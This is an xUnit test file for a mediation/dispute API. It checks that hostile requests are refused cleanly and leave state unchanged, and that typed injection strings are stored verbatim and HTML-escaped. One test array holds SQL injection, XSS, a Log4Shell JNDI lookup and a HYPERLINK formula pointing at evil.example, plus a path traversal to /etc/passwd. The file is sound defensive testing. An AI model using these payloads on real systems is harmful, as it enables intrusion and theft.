using System.Net.Http.Json;
using Xunit.Abstractions;
using Xunit.Sdk;

namespace Mediation.Api.Tests.Hostile;

/// <summary>
/// The generated catalogue (<see cref="HostileCatalogue"/>): every REST route and hub method crossed with malformed and
/// hostile mutations, each refused with a 4xx ProblemDetails (REST) or a HubException starting with the REST status
/// (hub), without a stack, an exception or a type name; then nothing a party can read has changed.
/// </summary>
[TestCaseOrderer("Mediation.Api.Tests.Hostile.SnapshotLast", "Mediation.Api.Tests")]
public sealed class HostileCatalogueTests(HostileFixture fixture, ITestOutputHelper output) : IClassFixture<HostileFixture>
{
    public static TheoryData<string> Cases => new(HostileCatalogue.All.Select(c => c.Name));

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task A_hostile_request_is_refused_in_our_words(string name)
    {
        var failure = await fixture.RunAsync(HostileCatalogue.ByName[name]);
        Assert.True(failure is null, failure);
    }

    /// <summary>Runs last (<see cref="SnapshotLast"/>); alone, it sends every case itself first.</summary>
    [Fact]
    public async Task After_every_hostile_request_every_dispute_timeline_and_list_is_unchanged()
    {
        var failures = new List<string>();
        foreach (var c in HostileCatalogue.All.Where(c => !fixture.Ran(c.Name)))
            if (await fixture.RunAsync(c) is { } failure) failures.Add(failure);

        var after = await fixture.SnapshotAsync();
        foreach (var (key, before) in fixture.Before)
            if (after[key] != before) failures.Add($"{key} changed:\n  before: {before}\n  after:  {after[key]}");
        Assert.True(failures.Count == 0, $"{failures.Count} failures:\n" + string.Join("\n", failures));
    }

    /// <summary>The one replay that is not refused: the same key and the same body answer the first offer again (the snapshot shows nothing added).</summary>
    [Fact]
    public async Task The_seeded_offer_replayed_with_its_key_answers_the_first_offer_again()
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, $"/api/disputes/{fixture.NegotiatingDispute}/offers")
        {
            Content = new StringContent(HostileCatalogue.SeededOfferBody, System.Text.Encoding.UTF8, "application/json"),
        };
        request.Headers.Add("Idempotency-Key", HostileCatalogue.SeededOfferKey);
        using var replayed = await fixture.Client(HostileCatalogue.AsMerchant).SendAsync(request);
        Assert.Equal(System.Net.HttpStatusCode.Created, replayed.StatusCode);
        Assert.Equal("true", replayed.Headers.GetValues("Idempotent-Replayed").Single());
        Assert.Equal(2, (await Scenario.EventAsync(replayed)).Seq);
    }

    /// <summary>Injection in text is not refused — a consumer may well type it — but stored as typed and never run.</summary>
    [Fact]
    public async Task Injection_strings_in_text_are_stored_as_typed_and_escaped_in_the_printable_case_file()
    {
        string[] texts =
        [
            "'; DROP TABLE disputes; --", "<script>alert(1)</script>", "{0} {1:x} %s %n", "${jndi:ldap://evil.example/a}",
            "<img src=x onerror=alert(1)>", "\"},{\"role\":\"ops", "../../etc/passwd", "=HYPERLINK(\"http://evil.example\")",
        ];
        var s = await Scenario.PaidOrderAsync(fixture.Factory.As);
        var dispute = await s.OpenDisputeAsync();
        foreach (var text in texts)
            Assert.Equal(text, (await Scenario.EventAsync(await s.Consumer.PostAsJsonAsync($"/api/disputes/{dispute.DisputeId}/messages", new { text }))).Text);

        var timeline = await s.TimelineAsync(dispute.DisputeId);
        Assert.Equal(texts, timeline.Where(e => e.Type == DisputeEventType.Message).Select(e => e.Text));
        var page = await s.Consumer.GetStringAsync($"/api/disputes/{dispute.DisputeId}/case-file?format=html");
        Assert.DoesNotContain("<script>alert", page);
        Assert.DoesNotContain("<img src=x", page);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", page);
    }

    [Fact]
    public void The_catalogue_holds_well_over_250_cases_of_every_kind_against_every_route_and_hub_method()
    {
        var counts = HostileCatalogue.All.GroupBy(c => c.Category).ToDictionary(g => g.Key, g => g.Count());
        output.WriteLine($"{HostileCatalogue.All.Count} cases: {HostileCatalogue.All.Count(c => !c.IsHub)} REST, {HostileCatalogue.All.Count(c => c.IsHub)} hub");
        foreach (var (category, count) in counts.OrderByDescending(c => c.Value))
            output.WriteLine($"{category}: {count} ({HostileCatalogue.All.Count(c => c.Category == category && c.IsHub)} on the hub)");
        Assert.True(HostileCatalogue.All.Count >= 250, $"{HostileCatalogue.All.Count} cases");
        foreach (var category in Enum.GetValues<HostileCategory>())
            Assert.True(counts.GetValueOrDefault(category) > 0, $"no {category} case");
        Assert.True(HostileCatalogue.All.Count(c => c.IsHub) >= 100, "hub cases");
        Assert.True(HostileCatalogue.All.Count(c => c.IsHub && c.Protocol == "messagepack") >= 50, "MessagePack cases");
    }
}

/// <summary>Orders the catalogue's tests so that the snapshot comparison comes after every case.</summary>
public sealed class SnapshotLast : ITestCaseOrderer
{
    public IEnumerable<TTestCase> OrderTestCases<TTestCase>(IEnumerable<TTestCase> testCases) where TTestCase : ITestCase =>
        testCases.OrderBy(t => t.TestMethod.Method.Name == nameof(HostileCatalogueTests.After_every_hostile_request_every_dispute_timeline_and_list_is_unchanged) ? 1 : 0);
}
